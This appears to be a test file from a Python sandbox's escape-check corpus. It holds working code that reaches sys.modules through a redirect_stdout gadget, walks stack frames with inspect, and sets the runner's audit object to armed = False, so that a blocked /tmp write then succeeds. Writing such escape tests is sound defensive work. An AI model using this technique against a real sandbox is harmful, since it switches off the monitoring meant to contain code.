# technique: with sys.modules (through the redirect_stdout gadget of 138), inspect.stack() returns the frames above the snippet (inspect's own sys._getframe call is trusted); inspect.getargvalues(frame)[3] is a frame's f_locals, where the runner's run() holds its _Audit instance: setting armed = False turns the audit hook off, and a file write the runtime refused a moment before goes through
# source: sandbox design flaw class: Python-level audit hook state reachable from sandboxed code (corpus 116/127), through trusted stdlib frame helpers
# note: the write goes to the child's private /tmp (the kernel layers still hold); it shows that the runtime layer is off

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import contextlib


def old_target(self):
    return self._old_targets[-1]


class Redirect(contextlib.redirect_stdout):
    _stream = 'modules'


def modules():
    r = Redirect(None)
    with r:
        value = old_target(r)
    return value


def write_tmp():
    f = modules()['io'].FileIO('/tmp/ts-escaped', 'w')
    f.write(b'x')
    f.close()


def disarm():
    inspect = modules()['inspect']
    n = 0
    for info in inspect.stack():
        for v in list(inspect.getargvalues(info.frame)[3].values()):
            if type(v).__name__ == '_Audit':
                v.armed = False
                n += 1
    return n

attempt('inspect.stack()[0].frame', lambda: modules()['inspect'].stack()[0].frame)
try:
    write_tmp()
    refused_before = False
except BaseException as e:
    refused_before = True
    print('BLOCKED write before disarming:', type(e).__name__, str(e)[:120])
try:
    n = disarm()
    write_tmp()
    if refused_before and n:
        print('ESCAPED audit hook disarmed through frame locals: the refused write now succeeds')
    else:
        print('BLOCKED nothing to disarm (%d)' % n)
except BaseException as e:
    print('BLOCKED disarm:', type(e).__name__, str(e)[:160])
